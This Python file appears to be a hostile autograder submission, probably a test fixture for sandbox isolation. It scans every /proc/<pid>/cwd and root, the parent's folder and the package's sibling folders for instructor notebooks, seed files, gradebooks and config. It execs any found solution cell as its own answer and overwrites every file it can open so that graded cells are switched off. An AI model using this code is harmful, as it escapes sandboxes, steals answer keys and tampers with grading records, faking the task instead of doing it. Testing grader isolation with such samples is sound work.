# ruff: noqa
"""The instructor's notebooks, looked for everywhere, read, and rewritten.

Places: every /proc/<pid>/cwd and /proc/<pid>/root the process can see (the worker's course
folder is its parent's working folder), the folder next to the installed package
(autograde.__file__/../../solutions, an editable install), and the absolute paths of the
grading folder and the course. An instructor's answer cell found there becomes calc_delta
(full marks if the sandbox let it through); every notebook, seed file, gradebook and config
found is rewritten (a test cell's grade turned off). Otherwise calc_delta is wrong (zeros).
"""

import numpy as np  # noqa: F401


# %% answer_calc_delta
import glob
import json
import os

import autograde


def _places():
    places = {"@GRADE_DIR@", "@GRADE_DIR@/course", "@GRADE_DIR@/workers/0",
              "@GRADE_DIR@/workers/1", "@COURSE_ROOT@", "@REPO_ROOT@", "/", "/root",
              os.path.dirname(os.path.dirname(os.path.realpath(autograde.__file__)))}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            places |= {f"/proc/{pid}/cwd", f"/proc/{pid}/root"}
    places |= {f"/proc/{os.getppid()}/cwd", f"/proc/{os.getppid()}/cwd/.."}
    return sorted(places)


FOUND, WROTE, SOURCE = [], [], None
_mine = os.path.realpath(os.getcwd())
for _base in _places():
    for _pattern in ("solutions/bptt/*.ipynb", "source/bptt/*.ipynb", "*.ipynb",
                     "*/solutions/bptt/*.ipynb", ".bptt-hidden-seed", "gradebook.db",
                     "nbgrader_config.py"):
        for _path in glob.glob(os.path.join(_base, _pattern)):
            if os.path.realpath(_path).startswith(_mine):
                continue  # the learner's own notebook
            try:
                data = open(_path, "rb").read()
            except OSError:
                continue
            FOUND.append(_path)
            if _path.endswith(".ipynb"):
                try:
                    for cell in json.loads(data)["cells"]:
                        text = "".join(cell["source"])
                        gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
                        if gid == "answer_calc_delta" and "BEGIN SOLUTION" in text:
                            SOURCE = text
                except Exception:
                    pass
            try:
                with open(_path, "r+b") as fh:
                    fh.write(data.replace(b'"grade": true', b'"grade": false'))
                WROTE.append(_path)
            except OSError:
                pass
print(f"searched {len(_places())} places; found: {FOUND}; wrote: {WROTE}")

if SOURCE is not None:
    exec(SOURCE)
else:
    def calc_delta(sensitivity, states, W, activator):
        """Wrong on every case: no recursion at all."""
        return np.zeros_like(states)
